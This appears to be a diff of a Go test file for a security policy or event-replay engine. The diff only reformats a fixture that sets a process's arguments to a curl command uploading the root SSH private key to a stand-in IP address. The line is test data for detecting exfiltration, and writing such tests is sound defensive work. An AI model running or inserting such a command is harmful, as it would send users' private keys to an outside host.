@@ -47,7 +47,9 @@ func hold(bits ...string) event.Event {
 
 func TestReplay(t *testing.T) {
 	unix := func(e *event.Event) { e.Destination = &event.Destination{Address: "/run/x.sock", Protocol: "unix"} }
-	upload := func(e *event.Event) { e.Process.Argv = []string{"curl", "--data-binary", "@/root/.ssh/id_rsa", "https://192.0.2.1/"} }
+	upload := func(e *event.Event) {
+		e.Process.Argv = []string{"curl", "--data-binary", "@/root/.ssh/id_rsa", "https://192.0.2.1/"}
+	}
 	exec := with(connect("allow", "sealed_run", "secret"), func(e *event.Event) { e.Kind, e.Destination = event.Exec, nil })
 	for _, tt := range []struct {
 		name, policy string
